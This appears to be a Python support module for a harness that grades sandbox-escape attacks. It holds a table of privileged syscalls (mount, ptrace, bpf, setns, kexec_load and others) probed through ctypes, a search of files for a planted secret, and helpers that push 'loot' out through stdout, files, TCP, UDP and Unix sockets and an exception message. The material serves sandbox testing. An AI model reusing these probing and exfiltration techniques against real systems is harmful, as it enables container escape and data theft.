"""What stands before every attack when it is graded: what the harness tells it, and every way out for what it steals."""

import ctypes
import errno
import os
import platform
import re
import socket
import sys  # noqa: F401  (for the attacks)

import torch  # noqa: F401
from torch import nn  # noqa: F401

WORLD = {}  # filled in by the harness
STOLEN = []
LIBC = ctypes.CDLL(None, use_errno=True)
REFUSALS = (errno.EPERM, errno.EACCES, errno.ENOSYS)
NUMBERS = {  # name: (x86-64, aarch64)
    "clone": (56, 220),
    "ptrace": (101, 117),
    "syslog": (103, 116),
    "capset": (126, 91),
    "personality": (135, 92),
    "pivot_root": (155, 41),
    "chroot": (161, 51),
    "umount2": (166, 39),
    "mount": (165, 40),
    "swapon": (167, 224),
    "reboot": (169, 142),
    "sethostname": (170, 161),
    "init_module": (175, 105),
    "delete_module": (176, 106),
    "kexec_load": (246, 104),
    "add_key": (248, 217),
    "keyctl": (250, 219),
    "unshare": (272, 97),
    "perf_event_open": (298, 241),
    "fanotify_init": (300, 262),
    "name_to_handle_at": (303, 264),
    "open_by_handle_at": (304, 265),
    "setns": (308, 268),
    "process_vm_readv": (310, 270),
    "process_vm_writev": (311, 271),
    "kcmp": (312, 272),
    "bpf": (321, 280),
    "userfaultfd": (323, 282),
    "execveat": (322, 281),
    "io_uring_setup": (425, 425),
    "open_tree": (428, 428),
    "fsopen": (430, 430),
    "pidfd_open": (434, 434),
    "clone3": (435, 435),
    "pidfd_getfd": (438, 438),
    "mount_setattr": (442, 442),
}


def syscall(name, *arguments):
    """(result, errno) of a system call by name; errno is 0 when it succeeded."""
    number = NUMBERS[name][platform.machine() in ("aarch64", "arm64")]
    ctypes.set_errno(0)
    words = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = LIBC.syscall(ctypes.c_long(number), *words)
    return result, ctypes.get_errno() if result == -1 else 0


def reach(name, *arguments):
    """Report a system call as loot unless it was refused: any other error says that the kernel listened."""
    result, error = syscall(name, *arguments)
    if error not in REFUSALS:
        loot(f"{name}: {result}, errno {error}")
    elif error == errno.ENOSYS:
        print("LACKS", name, flush=True)  # where nothing filters: this kernel has no such call
    return result


def quietly(action, *arguments, **named):
    """What the action gives; None where it fails, whatever it raises."""
    try:
        return action(*arguments, **named)
    except NameError:
        raise  # a mistake in the attack, which would then try nothing
    except BaseException:
        return None


def begin():
    """Leave word that the attack acts: one that never ran proves nothing."""
    os.write(1, b"ACTING\n")


def secret_in(data):
    """The harness's secret where `data` (bytes) holds it, else None. No part of this text is the secret."""
    found = re.search(("".join(WORLD["mark"]) + "[0-9a-f]{16}").encode(), data)
    return found[0].decode() if found else None


def steal_file(path):
    """Read a file and report it as loot when the harness's secret is in it."""
    data = quietly(_read, path)
    if data and secret_in(data):
        loot(secret_in(data))


def _read(path):
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(descriptor, 1 << 20)
    finally:
        os.close(descriptor)


def loot(what):
    """Get `what` out by every way there is: output, files, sockets, and whatever the network's text reaches."""
    text = "LOOT " + repr(what)
    STOLEN.append(text)
    for way in (_by_output, _by_file, _by_tcp, _by_udp, _by_unix):
        quietly(way, text)


def _by_output(text):
    os.write(1, text.encode() + b"\n")


def _by_file(text):
    with open(WORLD["outside"] + "/loot.txt", "a") as file:
        file.write(text)


def _by_tcp(text):
    socket.create_connection(("127.0.0.1", WORLD["tcp"]), timeout=0.2).sendall(text.encode())


def _by_udp(text):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(text.encode(), ("127.0.0.1", WORLD["udp"]))


def _by_unix(text):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as line:
        line.connect(WORLD["unix"])
        line.sendall(text.encode())


def confess():
    """Put what was stolen where a report would show it: into the error of a network that cannot be built."""
    if STOLEN:
        raise RuntimeError(STOLEN[0])
